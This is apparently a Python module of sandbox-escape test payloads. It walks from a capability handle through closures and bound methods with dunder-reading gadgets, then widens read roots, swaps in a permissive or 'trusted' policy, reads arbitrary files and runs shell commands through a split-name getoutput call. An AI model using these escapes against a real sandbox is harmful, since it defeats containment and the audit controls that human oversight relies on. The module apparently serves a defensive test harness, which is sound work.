"""Class 6: from a capability handle back to the grant, its session and policy.

Each payload walks ``files.read`` (or the magics gate) -> ``__func__`` ->
``__closure__`` -> the dispatch method -> ``__self__`` (the grant or the
session) with a gadget that reads a dunder for it, then changes state the
audit hook trusts.
"""

_READ = ("import functools\n"
         "def rd(obj, name):\n    out = []\n"
         "    H = type('H', (), {name: property(lambda s: None, lambda s, v: out.append(v))})\n"
         "    functools.update_wrapper(H(), obj, assigned=(name,), updated=())\n"
         "    return out[0]\n")
_MATCH = ("class M(type):\n    def __instancecheck__(cls, obj):\n        return True\n"
          "def rd(obj, name):\n    C = M('C', (), {'__match_args__': (name,)})\n"
          "    match obj:\n        case C(v):\n            return v\n")
_DIR, _LEAF = "@S@.rsplit('/', 1)[0]", "@S@.rsplit('/', 1)[1]"


def _walk(handle, then):
    """The walk, then ``then`` with ``owner`` (the grant or the session); a
    failed walk is reported in ``walk`` (the positive control has no facade)."""
    body = (f"cells = rd(rd({handle}, '__func__'), '__closure__')\n"
            "target = [c.cell_contents for c in cells if callable(c.cell_contents)][0]\n"
            "owner = rd(target, '__self__')\n" + then)
    return ("try:\n" + "".join("    " + line + "\n" for line in body.splitlines())
            + "    walk = 'ok'\nexcept Exception as e:\n    walk = repr(e)\n")


#: against the positive control's naive capability (state in plain sight)
_NAIVE = f"if walk != 'ok':\n    files._root = {_DIR}\n"


PAYLOADS = [
    # widen the scope's read roots, then move the files root
    ("cap_grant_move_root", "capability_reach", "read_file",
     _READ + _walk("files.read",
                   "scope = owner.session.scope\nscope.read_roots = scope.read_roots + ('/',)\n"
                   f"owner.impl.__init__({_DIR})") + _NAIVE + f"pwned = files.read({_LEAF})"),
    # the same walk through a class pattern; the live policy of the scope
    ("cap_match_walk", "capability_reach", "read_file",
     _MATCH + _walk("files.list",
                    "scope = owner.session.scope\n"
                    "scope.policy = scope.policy.replace(read_scope='any')\n"
                    f"owner.impl.__init__({_DIR})") + _NAIVE + f"pwned = files.read({_LEAF})"),
    # the magics gate leads to the session: its live rules become trusted
    ("cap_gate_session", "capability_reach", "run_command",
     _READ + _walk("get_ipython().run_line_magic",
                   "trusted = type(owner.policy).preset('trusted')\n"
                   "owner.scope.policy = trusted\nowner.policy = trusted") +
     "pwned = getattr(get_ipython(), 'getout' + 'put')(@C@)"),
]
